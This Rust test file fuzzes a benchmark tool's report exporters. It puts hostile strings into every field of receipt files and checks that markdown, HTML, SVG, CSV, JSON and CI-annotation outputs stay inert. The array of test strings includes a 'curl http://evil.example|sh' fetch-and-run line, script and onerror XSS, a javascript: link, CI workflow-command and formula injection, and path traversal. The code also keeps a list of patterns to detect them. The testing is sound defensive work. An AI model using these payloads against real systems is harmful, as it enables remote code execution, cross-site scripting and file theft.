//! Hostile words in every field of every file that a report takes, through every exporter. `hostile.rs` looks at what is known to
//! be dangerous in some fields; here every text of a file is tried, and every key.
//!
//! Two texts a field; with `PROPTEST_CASES` set, as each night, every one of them.

use std::path::Path;

use cargo_infergate::receipt::{Format, LoadReceipt, MemoryReceipt, PairedReceipt, Receipt, Verdict, read};
use cargo_infergate::report::inputs::Inputs;
use cargo_infergate::report::splice::splice;
use cargo_infergate::report::topics::report;
use infergate_core::printable::{printable, printable_within};
use quick_xml::Reader;
use quick_xml::events::Event;
use serde_json::{Value, json};

use crate::report_formats::commands::commands;
use crate::report_formats::hostile::without_code;
use crate::report_formats::support::{files, memory, paired, two_runs};

/// The first two hold something of each of the others.
const WORDS: [&str; 13] = [
    "x; curl http://evil.example|sh `$(y)` ![p](http://evil.example) <script>a</script> @octocat #1 \u{ffff} ::error::z ##[error]z",
    "\u{1b}[2J\u{202e}\n<!-- /infergate -->\n::error::a\r\n```\n| # <img src=x onerror=b> | [l](javascript:c) \u{fffe}\u{b}",
    "--worker-build=sh",
    "\n\n# live\n",
    "</title></svg></style><script>alert(1)</script>",
    "]]>&lt;script&gt; %0A::error::x",
    "::add-mask::x",
    "##vso[task.complete]",
    "=1+1",
    "＝1+1",
    "../../etc/passwd",
    "\u{2028}\u{200b}\u{e0041}\u{feff}",
    "",
];

/// A text of 64 KiB.
fn long() -> String {
    "y]|`".repeat(16 << 10)
}

/// The place of each text in a file, one for all entries of a list: `cases.0.id`, and the keys of maps with `+` behind.
fn places(value: &Value, at: &str, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(at.to_owned()),
        Value::Array(list) => {
            for (number, entry) in list.iter().enumerate().take(2) {
                places(entry, &format!("{at}/{number}"), found);
            }
        }
        Value::Object(fields) => {
            for (key, field) in fields {
                places(field, &format!("{at}/{key}"), found);
                found.push(format!("{at}/{key}+"));
            }
        }
        _ => {}
    }
}

fn set(value: &Value, place: &str, word: &str) -> Value {
    let mut value = value.clone();
    match place.strip_suffix('+') {
        None => *value.pointer_mut(place).expect("its own place") = word.into(),
        Some(place) => {
            let (around, key) = place.rsplit_once('/').expect("a field");
            let fields = value.pointer_mut(around).and_then(Value::as_object_mut).expect("an object");
            let field = fields.remove(key).expect("its own field");
            fields.insert(word.to_owned(), field);
        }
    }
    value
}

#[track_caller]
fn assert_harmless(inputs: &Inputs) {
    for file in files(inputs) {
        let text = String::from_utf8(file.bytes).expect("text");
        let name = file.name.as_str();
        assert!(
            !name.contains("..") && name.chars().all(|c| c.is_ascii_alphanumeric() || "-./_".contains(c)),
            "{name}"
        );
        for line in text.lines() {
            // Our own mark in words that would come alive.
            let own = if name.ends_with(".md") {
                ["@", "#", ":", "-"]
                    .iter()
                    .fold(line.to_owned(), |line, own| line.replace(&format!("{own}\u{200b}"), own))
            } else {
                line.into()
            };
            assert_eq!(printable_within(&own, own.len().max(1)), own, "{name}");
        }
        match name.rsplit_once('.').map(|(_, end)| end) {
            Some("svg" | "xml") => well_formed(name, &text),
            Some("md") => nothing_is_live(name, &text),
            Some("html") => assert_eq!((text.matches("<script").count(), text.contains("<img")), (1, false), "{name}"),
            Some("csv") => no_formula(&text),
            Some("json") => drop(serde_json::from_str::<Value>(&text).expect("JSON")),
            _ => {}
        }
        if name == "annotations.txt" {
            let ours = |line: &str| {
                ["::error title=infergate", "::warning title=infergate", "::notice title=infergate"]
                    .iter()
                    .any(|begin| line.starts_with(begin))
            };
            assert!(text.lines().all(ours), "{text}");
        }
        if name == "comment.md" {
            commands(&text).into_iter().for_each(assert_ours);
        }
    }
    let report = report(inputs);
    for section in &report.sections {
        let document = format!("a\n<!-- infergate:{} -->\n<!-- /infergate -->\nb\n", section.id);
        let once = splice(&document, inputs, &report, "cargo infergate report FILE").expect("spliced");
        assert_eq!(once.lines().filter(|line| line.contains("<!--")).count(), 2, "{once}");
        assert_eq!(splice(&once, inputs, &report, "cargo infergate report FILE").expect("again"), once);
    }
}

/// `git checkout`, or this program with flags of ours, each with a value that is one word.
fn assert_ours(line: &str) {
    let ours = ["against", "cases", "case", "good", "bad", "model", "runs", "threads", "users"];
    let words = shlex::split(line).expect("a command");
    let words: Vec<&str> = words.iter().map(String::as_str).filter(|word| *word != "--server").collect();
    match words[..] {
        ["git", "checkout", _] => {}
        ["cargo", "infergate", _, ref flags @ ..] => {
            for pair in flags.chunks(2) {
                let known = pair[0].strip_prefix("--").is_some_and(|flag| ours.contains(&flag));
                assert!(known && pair.get(1).is_some_and(|value| !value.starts_with('-')), "{line}");
            }
        }
        _ => panic!("{line}"),
    }
}

fn well_formed(name: &str, text: &str) {
    let mut reader = Reader::from_str(text);
    loop {
        match reader.read_event() {
            Ok(Event::Eof) => break,
            Ok(_) => {}
            Err(error) => panic!("{name}: {error}"),
        }
    }
    // https://www.w3.org/TR/xml/#charsets
    let allowed =
        |c: char| matches!(c, '\t' | '\n' | '\r' | ' '..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..);
    assert_eq!(text.chars().find(|c| !allowed(*c)), None, "{name}");
    assert!(!text.contains("<script") && !text.contains("<img"), "{name}");
}

fn nothing_is_live(name: &str, text: &str) {
    let mut in_block = false;
    for line in text.lines() {
        if line.starts_with("```") {
            in_block = !in_block;
        }
        let bare = without_code(line).replace("\\[", "").replace("\\]", "");
        for bad in ["<script", "<img", "http://", "](javascript", "](http", "@octocat", "#1", "# live"] {
            assert!(in_block || !bare.contains(bad), "{name}: {bad} in {line}");
        }
        assert!(in_block || !line.starts_with("::"), "{name}: {line}");
    }
    assert!(!in_block, "{name}: a block is not closed");
}

fn no_formula(csv: &str) {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    for record in reader.records() {
        let record = record.expect("a record");
        // All that are no numbers.
        for text in [0, 1, 3, 4, 8, 9, 10].map(|at| &record[at]) {
            assert!(!text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{record:?}");
        }
    }
}

/// What was measured about the cause, of which the golden file has nothing.
fn explain(paired: &mut Value) {
    let time = json!({"base_ns": 1e6, "head_ns": 2e6, "low_ns": 9e5, "high_ns": 1.1e6});
    paired["explained"] = json!([{
        "id": "decode/p8", "blocks": 8, "base_samples": 900, "head_samples": 900, "total": time, "waiting": time,
        "functions": [{
            "name": "attend", "place": "src/step.rs:1", "caller": "step", "time": time, "called": [{"name": "dot", "time": time}]
        }],
        "frames": [{"name": "main", "depth": 0, "time": time}, {"name": "attend", "depth": 1, "time": time}]
    }, {"id": "prefill/p8", "why_not": "nothing was seen"}]);
    paired["allocated"] = json!([{
        "id": "decode/p8",
        "places": [{
            "frames": ["attend at src/step.rs:1", "step"], "base_allocations": 4.0, "head_allocations": 9.0, "base_bytes": 64.0,
            "head_bytes": 640.0
        }]
    }]);
}

/// Says how many fields there are, how many texts were tried, and how many of them the reader refused.
fn through<T: Format>(name: &str, as_inputs: &dyn Fn(T) -> Inputs) -> String {
    let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden").join(name);
    let mut value: Value =
        serde_json::from_str(&std::fs::read_to_string(golden).expect("a golden file")).expect("JSON");
    if name == "paired-1.json" {
        explain(&mut value);
    }
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("hostile.json");
    let mut found = Vec::new();
    places(&value, "", &mut found);
    let long = long();
    let all = std::env::var_os("PROPTEST_CASES").is_some();
    let words: Vec<&str> = if all { WORDS.into_iter().chain([&*long]).collect() } else { WORDS[..2].to_vec() };
    let (mut texts, mut refused) = (0, 0);
    for place in &found {
        for word in &words {
            texts += 1;
            std::fs::write(&path, set(&value, place, word).to_string()).expect("a file");
            match read::<T>(&path) {
                Ok(read) => assert_harmless(&as_inputs(read)),
                Err(error) => {
                    refused += 1;
                    let line = format!("{error:#}");
                    assert!(!printable(&line).is_empty() && !line.ends_with('.'), "{place}: {line}");
                }
            }
        }
    }
    format!("{name}: {} fields and keys, {texts} texts, {refused} of them refused", found.len())
}

#[test]
fn receipts() {
    let known = two_runs();
    let inputs = |head| Inputs { head: Some(head), ..known.clone() };
    println!("{}", through::<Receipt>("receipt-1.json", &inputs));
}

#[test]
fn verdicts() {
    let known = paired();
    let inputs = |verdict| Inputs { verdict: Some(verdict), ..known.clone() };
    println!("{}", through::<Verdict>("verdict-2.json", &inputs));
}

#[test]
fn paired_receipts() {
    let known = paired();
    let inputs = |pair| Inputs { paired: Some(pair), ..known.clone() };
    println!("{}", through::<PairedReceipt>("paired-1.json", &inputs));
}

#[test]
fn memory_receipts() {
    let known = memory();
    let inputs = |receipt| Inputs { memory: Some(receipt), ..known.clone() };
    println!("{}", through::<MemoryReceipt>("memory-1.json", &inputs));
}

#[test]
fn load_receipts() {
    let inputs = |load| Inputs { load: Some(load), ..Inputs::new("cargo infergate") };
    println!("{}", through::<LoadReceipt>("load-1.json", &inputs));
}
